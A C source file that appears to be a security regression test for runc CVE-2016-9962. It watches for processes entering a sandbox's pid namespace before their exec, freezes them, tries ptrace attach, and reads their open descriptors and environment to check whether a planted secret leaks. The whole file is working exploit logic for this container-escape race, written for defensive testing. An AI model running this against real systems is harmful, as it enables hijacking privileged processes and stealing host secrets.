/*
 * enterspy: the payload of checklist E1 (runc CVE-2016-9962). It waits
 * for a process that `sandbox enter` brings into its pid namespace and,
 * while that process has not yet exec'd (its name is still the
 * launcher's, "sandbox"), freezes it with SIGSTOP and tries to take what
 * it holds of the host: PTRACE_SEIZE and PTRACE_ATTACH, its open
 * descriptors through /proc/PID/fd (reading each one) and its
 * environment through /proc/PID/environ. A process that has exec'd is
 * tried the same way once, as the control: that must work, or the attack
 * could fail for the wrong reason.
 *
 *	enterspy LOG SECONDS
 *
 * One line per attempt goes to LOG.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* 0: new; 1: attacked before its exec; 2: done with. */
static char seen[1 << 16];

static int comm_of(int pid, char *buf, size_t n)
{
	char path[64];
	int fd;
	ssize_t r;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	r = read(fd, buf, n - 1);
	close(fd);
	if (r <= 0)
		return -1;
	buf[r] = 0;
	buf[strcspn(buf, "\n")] = 0;
	return 0;
}

static const char *err(int r)
{
	return r < 0 ? strerrorname_np(errno) : "OK";
}

/* readall reads up to n-1 bytes of path; the count, or -1. */
static int readall(const char *path, char *buf, size_t n)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t r;

	if (fd < 0)
		return -1;
	r = read(fd, buf, n - 1);
	close(fd);
	if (r < 0)
		return -1;
	buf[r] = 0;
	return (int)r;
}

static void attack(FILE *log, int pid, const char *kind)
{
	char path[300], buf[4096], comm[64];
	int r, stopped, leaked = 0, nfd = 0;
	DIR *d;
	struct dirent *e;

	/* Frozen before its exec, for as long as the attack takes. */
	int pre = strcmp(kind, "pre-exec") == 0;

	stopped = pre && kill(pid, SIGSTOP) == 0;
	fprintf(log, "%s pid=%d stop=%s", kind, pid, stopped ? "OK" : pre ? strerrorname_np(errno) : "-");
	r = (int)ptrace(PTRACE_SEIZE, pid, 0, 0);
	fprintf(log, " seize=%s", err(r));
	if (r == 0) {
		/* A tracee is detached only in a ptrace stop. */
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	r = (int)ptrace(PTRACE_ATTACH, pid, 0, 0);
	fprintf(log, " attach=%s", err(r));
	if (r == 0) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	fprintf(log, " fddir=%s", d ? "OK" : strerrorname_np(errno));
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		nfd++;
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
		if (readall(path, buf, sizeof(buf)) > 0 && strstr(buf, "E1SECRET"))
			leaked = 1;
	}
	if (d)
		closedir(d);
	fprintf(log, " fds=%d", nfd);
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	r = readall(path, buf, sizeof(buf));
	fprintf(log, " environ=%s", r < 0 ? strerrorname_np(errno) : "OK");
	for (int i = 0; r > 0 && i < r; i++)
		if (buf[i] == 0)
			buf[i] = '\n';
	if (r > 0 && strstr(buf, "E1SECRET"))
		leaked = 1;
	/* Still before exec while all this happened? */
	if (comm_of(pid, comm, sizeof(comm)) == 0)
		fprintf(log, " comm-after=%s", comm);
	fprintf(log, " leaked=%d\n", leaked);
	fflush(log);
	if (stopped)
		kill(pid, SIGCONT);
}

int main(int argc, char **argv)
{
	FILE *log;
	time_t end;
	int control = 0;

	if (argc != 3)
		return 2;
	log = fopen(argv[1], "a");
	if (!log)
		return 1;
	setvbuf(log, NULL, _IOLBF, 0);
	end = time(NULL) + atoi(argv[2]);
	/* What runs already is not an entered process. */
	{
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (isdigit((unsigned char)e->d_name[0]) && atoi(e->d_name) < (int)sizeof(seen))
				seen[atoi(e->d_name)] = 1;
		if (d)
			closedir(d);
	}
	fprintf(log, "ready\n");
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			char comm[64];
			int pid;

			if (!isdigit((unsigned char)e->d_name[0]))
				continue;
			pid = atoi(e->d_name);
			if (pid <= 0 || pid >= (int)sizeof(seen) || seen[pid] == 2 || pid == getpid())
				continue;
			if (comm_of(pid, comm, sizeof(comm)) < 0)
				continue;
			/* 1: attacked before its exec, watched until it execs. */
			if (strcmp(comm, "sandbox") == 0) {
				if (!seen[pid])
					attack(log, pid, "pre-exec");
				seen[pid] = 1;
				continue;
			}
			/* A few entered sleeps: one caught at the very end of
			 * its exec may still refuse; the control needs one. */
			if (strcmp(comm, "sleep") == 0 && control < 5) {
				attack(log, pid, "control");
				control++;
			}
			seen[pid] = 2;
		}
		if (d)
			closedir(d);
	}
	return 0;
}
